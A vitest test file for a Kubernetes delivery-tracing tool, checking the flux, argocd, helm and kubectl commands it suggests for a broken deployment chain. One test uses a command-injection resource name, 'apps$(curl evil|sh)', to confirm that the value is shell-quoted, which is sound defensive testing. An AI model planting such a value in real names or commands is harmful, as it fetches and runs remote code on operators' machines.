// The diagnosis's fix: the commands to look closer at the link that breaks and retry it, per
// delivery system, every cluster value shell-quoted (a name is data, never shell code).
import { describe, expect, it } from 'vitest';
import type { ChainLink } from '../../shared/model/trace-result.js';
import { renderTraceText } from '../../shared/render/text.js';
import { fixCommands } from '../../shared/trace/fix.js';
import { baseLink } from '../../shared/trace/status.js';

function link(extra: Partial<ChainLink>): ChainLink {
  const ks = {
    apiVersion: 'kustomize.toolkit.fluxcd.io/v1',
    kind: 'Kustomization',
    metadata: { name: 'apps', namespace: 'flux-system' },
  };
  return { ...baseLink(ks, 'deployer', 'flux'), ready: false, status: 'Failed', ...extra };
}

const broken = (l: ChainLink) =>
  fixCommands([l], { healthy: false, brokenAt: 0, running: null, expected: null, summary: '' });

describe('fixCommands', () => {
  it('per delivery system: flux reconcile/resume, argocd app sync, helm status, kubectl', () => {
    expect(broken(link({}))).toEqual([
      'flux events --for Kustomization/apps -n flux-system',
      'flux reconcile kustomization apps -n flux-system --with-source',
    ]);
    expect(broken(link({ kind: 'GitRepository', name: 'repo', role: 'source', suspended: true }))).toEqual([
      'flux events --for GitRepository/repo -n flux-system',
      'flux resume source git repo -n flux-system',
    ]);
    expect(broken(link({ kind: 'Application', name: 'shop', namespace: 'argocd', tool: 'argo' }))).toEqual([
      'argocd app get shop --refresh',
      'argocd app sync shop',
    ]);
    expect(broken(link({ kind: 'Application', name: 'shop', namespace: 'team-a', tool: 'argo' }))[1]).toBe(
      'argocd app sync team-a/shop',
    );
    expect(
      broken(
        link({
          kind: 'Secret',
          name: 'web',
          namespace: 'shop',
          role: 'release',
          tool: 'helm',
          apiVersion: 'v1',
        }),
      ),
    ).toEqual(['helm status web -n shop', 'helm history web -n shop']);
    expect(
      broken(
        link({ kind: 'Deployment', name: 'web', apiVersion: 'apps/v1', role: 'object', tool: 'kubectl' }),
      ),
    ).toEqual(['kubectl describe deployment.apps web -n flux-system']);
    expect(broken(link({ missing: true }))).toEqual([
      'kubectl get kustomization.kustomize.toolkit.fluxcd.io apps -n flux-system',
    ]);
  });

  it('quotes every value read from the cluster', () => {
    const [, retry] = broken(link({ name: 'apps$(curl evil|sh)', namespace: "ns'x" }));
    expect(retry).toBe(`flux reconcile kustomization 'apps$(curl evil|sh)' -n 'ns'\\''x' --with-source`);
  });

  it('retries the deployer of a stale object, and has nothing for a healthy chain', () => {
    const ks = link({ ready: true });
    const obj = link({ kind: 'Deployment', name: 'web', role: 'object', ready: true, apiVersion: 'apps/v1' });
    const diagnosis = {
      healthy: false,
      brokenAt: null,
      running: 'a',
      expected: 'b',
      stale: true,
      summary: '',
    };
    expect(fixCommands([ks, obj], diagnosis)[1]).toBe(
      'flux reconcile kustomization apps -n flux-system --with-source',
    );
    expect(fixCommands([ks, obj], { ...diagnosis, stale: false, healthy: true })).toEqual([]);
  });

  it('shows the commands under the verdict in the CLI text', async () => {
    const { Engine } = await import('../../shared/engine.js');
    const engine = await Engine.open({ demo: true });
    const result = await engine.trace('deployment', 'nginx', 'demo');
    await engine.close();
    expect(renderTraceText(result)).toMatch(
      /BROKEN .*\n\nNext steps:\n {2}flux events --for Kustomization\/apps -n flux-system\n {2}flux reconcile kustomization apps -n flux-system --with-source\n/,
    );
  });
});
